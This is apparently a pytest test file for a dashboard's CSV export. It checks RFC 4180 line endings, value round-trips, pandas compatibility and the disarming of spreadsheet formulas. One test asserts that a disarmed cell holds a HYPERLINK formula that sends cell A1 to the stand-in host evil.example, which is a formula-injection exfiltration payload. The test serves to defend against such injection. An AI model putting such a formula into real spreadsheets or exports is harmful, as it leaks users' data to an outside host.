"""CSV: by RFC 4180, a table a file, formulas disarmed, every value as it was."""

import csv
import io
import re

import pandas
import pytest

from dashboard.snapshot.columns import CLAIM_TABLE, STANDING_TABLE
from dashboard.snapshot.csv_table import write_standings
from dashboard.snapshot.formulas import BEGINNINGS, rearm
from dashboard.snapshot.rows import claim_rows, standing_rows
from geo.tables import read_table
from tests.dashboard.snapshot.exports import VIEWS, empty, hostile, manifest_of, shipped, written, written_elsewhere


def as_cells(rows):
    """Rows as a table of text holds them."""
    return [{column: "" if value is None else str(value) for column, value in row.items()} for row in rows]


def rearmed(rows):
    return [{column: rearm(value) for column, value in row.items()} for row in rows]


def read(data):
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline=""), strict=True))


@pytest.mark.parametrize("view", VIEWS)
def test_every_value_comes_back(view):
    assert rearmed(read(written(view, "csv"))) == as_cells(claim_rows(view()))
    assert rearmed(read(write_standings(view()))) == as_cells(standing_rows(view()))


@pytest.mark.parametrize("view", VIEWS)
def test_our_own_strict_reader_takes_it(view, tmp_path):
    path = tmp_path / "claims.csv"
    path.write_bytes(written(view, "csv"))
    assert rearmed(row for _, row in read_table(path, CLAIM_TABLE)) == as_cells(claim_rows(view()))


def test_pandas_reads_the_same_values():
    frame = pandas.read_csv(io.BytesIO(written(shipped, "csv")), dtype=str, keep_default_na=False)
    assert rearmed(frame.to_dict("records")) == as_cells(claim_rows(shipped()))
    typed = pandas.read_csv(io.BytesIO(written(shipped, "csv")))
    assert typed["lat"].tolist() == [row["lat"] for row in claim_rows(shipped())]


def test_no_text_begins_like_a_formula():
    for table in (written(hostile, "csv"), write_standings(hostile())):
        rows = read(table)
        assert rows
        assert [cell for row in rows for cell in row.values() if cell[:1] in BEGINNINGS] == []


def test_what_is_disarmed_can_be_read_as_it_was():
    first = read(written(hostile, "csv"))[0]
    assert first["summary"] == """'=HYPERLINK("http://evil.example/?"&A1,"open")"""
    assert first["words"] == "'=0"


def test_lines_end_as_the_standard_says_and_fields_are_quoted_where_they_must_be():
    data = written(hostile, "csv")
    outside = re.sub(rb'"(?:[^"]|"")*"', b"", data)
    assert outside.count(b"\n") == outside.count(b"\r") == outside.count(b"\r\n") == len(hostile().claims) + 1
    assert not data.startswith(b"\xef\xbb\xbf")


def test_an_empty_view_is_a_table_without_rows():
    assert written(empty, "csv") == ",".join(CLAIM_TABLE).encode() + b"\r\n"
    assert write_standings(empty()) == ",".join(STANDING_TABLE).encode() + b"\r\n"


def test_nothing_of_the_manifest_is_in_it():
    assert manifest_of(shipped(), "csv").digest.encode() not in written(shipped, "csv")


def test_the_same_bytes_in_another_process():
    assert written(hostile, "csv") == written_elsewhere("1")["csv"] == written_elsewhere("2")["csv"]
